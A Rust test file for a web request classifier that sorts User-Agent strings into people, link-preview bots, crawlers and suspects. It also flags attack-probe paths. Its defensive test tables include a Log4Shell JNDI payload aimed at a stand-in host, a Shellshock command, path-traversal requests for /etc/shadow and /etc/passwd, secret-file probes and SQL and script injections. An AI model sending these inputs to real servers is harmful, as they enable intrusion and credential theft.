use super::{
    RequestClass::{self, Crawler, Person, Preview, Suspect},
    *,
};
use http::{HeaderName, HeaderValue};
use proptest::prelude::*;

/// What people's browsers and some programs really send, and what they are.
const SENT: &[(RequestClass, &str)] = &[
    (Person, ""),
    (Person, "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
    (
        Person,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    ),
    (
        Person,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    ),
    (Person, "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"),
    // Browsers inside of applications whose servers fetch previews under other names.
    (
        Person,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22F76 [FBAN/FBIOS;FBAV/510.0.0.33.107]",
    ),
    (
        Person,
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36 Telegram-Android/11.2",
    ),
    (Person, "MastodonAndroid/2.9.1"),
    (Person, "curl/8.14.1"),
    (Person, "Lynx/2.9.0 libwww-FM/2.14"),
    (Preview, "Mastodon/4.4.3 (http.rb/5.3.1; +https://mastodon.example/) Bot"),
    (Preview, "http.rb/5.1.1 (Mastodon/4.2.1; +https://mastodon.example/)"),
    (Preview, "Pleroma 2.7.0; https://pleroma.example <admin@pleroma.example>; Bot"),
    (Preview, "Akkoma 3.13.2-0-g050b; https://akkoma.example <admin@akkoma.example>; Bot"),
    (Preview, "Misskey/2024.11.0 (https://misskey.example)"),
    (Preview, "SummalyBot/5.1.0"),
    (Preview, "Lemmy/0.19.5; +https://lemmy.example"),
    (Preview, "gotosocial/0.17.0 (+https://social.example)"),
    (Preview, "Friendica 'Yellow Archangel' 2024.08-1571; https://friendica.example"),
    (Preview, "PeerTube/6.3.0 (+https://video.example)"),
    (Preview, "Synapse (bot; +https://github.com/matrix-org/synapse)"),
    (Preview, "Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)"),
    (Preview, "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    (Preview, "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)"),
    (Preview, "Twitterbot/1.0"),
    (Preview, "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
    // iMessage.
    (
        Preview,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",
    ),
    (Preview, "WhatsApp/2.23.20.0 A"),
    (Preview, "TelegramBot (like TwitterBot)"),
    (Preview, "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)"),
    (Preview, "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com"),
    (Crawler, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    (
        Crawler,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    ),
    (Crawler, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"),
    (Crawler, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)"),
    (Crawler, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot"),
    (Crawler, "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)"),
    (Crawler, "CCBot/2.0 (https://commoncrawl.org/faq/)"),
    (
        Crawler,
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
    ),
    (Crawler, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
    (Crawler, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    (Crawler, "Mediapartners-Google"),
    (Crawler, "ia_archiver"),
    (Suspect, "sqlmap/1.8.2#stable (https://sqlmap.org)"),
    (Suspect, "Mozilla/5.0 zgrab/0.x"),
    (Suspect, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
    (Suspect, "${jndi:ldap://203.0.113.7/a}"),
    (Suspect, "() { :; }; /bin/bash -c id"),
];

fn said(name: HeaderName, value: &str) -> HeaderMap {
    [(name, HeaderValue::try_from(value).unwrap())].into_iter().collect()
}

#[test]
fn programs_are_known_by_what_they_say() {
    for (class, agent) in SENT {
        assert_eq!(classify("/2026/11/a-post/", &said(header::USER_AGENT, agent)), *class, "{agent}");
    }
    assert_eq!(classify("/", &HeaderMap::new()), Person);
}

#[test]
fn who_says_from_is_no_browser() {
    let mut headers = said(header::FROM, "googlebot(at)googlebot.com");
    assert_eq!(classify("/", &headers), Crawler);
    headers.extend(said(header::USER_AGENT, "Twitterbot/1.0"));
    assert_eq!(classify("/", &headers), Preview, "a preview is one all the same");
}

#[test]
fn only_attackers_ask_for_these() {
    let firefox = said(header::USER_AGENT, SENT[1].1);
    for target in [
        "/.env",
        "/api/.ENV.bak",
        "/.git/config",
        "/cgi-bin/.%2e/.%2e/.%2e%2e/bin/sh",
        "/static/../../etc/shadow",
        "/?page=..%2F..%2Fetc%2Fpasswd",
        "/wp-config.php~",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/?x=${jndi:ldap://a}",
        "/?id=1+UNION+SELECT+1,2",
        "/?q=%3Cscript%3E",
    ] {
        assert_eq!(classify(target, &firefox), Suspect, "{target}");
    }
    for target in [
        "/",
        "/2026/11/how-to-write-a-.env-file/",
        "/2026/11/what-union-select-does/",
        "/wp-login.php",
        "/wp-admin/",
        "/xmlrpc.php",
        "/phpmyadmin/",
        "/cgi-bin/guestbook.pl",
        "/a..b/c...d",
        "/search?q=sql+union",
        "/.well-known/security.txt",
        "/caf%C3%A9?utm_source=a&fbclid=IwAR0",
    ] {
        assert_eq!(classify(target, &firefox), Person, "{target}");
    }
}

#[test]
fn words_are_written_as_they_are_looked_for_and_each_row_counts() {
    for agent in AGENTS {
        assert_eq!(agent.word, agent.word.to_ascii_lowercase());
        let found = AGENTS.iter().find(|other| agent.word.contains(other.word)).unwrap();
        assert_eq!(found.class, agent.class, "{} is never reached: {} is", agent.word, found.word);
    }
    assert!(TARGETS.iter().all(|(part, _)| *part == part.to_ascii_lowercase()));
}

proptest! {
    /// The one look that nearly everybody is done with says the same as the table.
    #[test]
    fn the_quick_look_and_the_table_agree(start in "[ -~]{0,20}", row in 0..AGENTS.len(), end in "[ -~]{0,20}", with in any::<bool>()) {
        let agent = if with { format!("{start}{}{end}", AGENTS[row].word.to_ascii_uppercase()) } else { format!("{start}{end}") };
        let text = agent.to_ascii_lowercase().replace("cubot", " ");
        let expected = AGENTS.iter().find(|agent| text.contains(agent.word)).map_or(Person, |agent| agent.class);
        prop_assert_eq!(of_agent(agent.as_bytes()), expected);
    }

    #[test]
    fn foreign_bytes_never_panic(agent in prop::collection::vec(any::<u8>(), 0..60), target in "\\PC{0,40}") {
        let _ = of_agent(&agent);
        let _ = is_suspect(&target);
    }
}
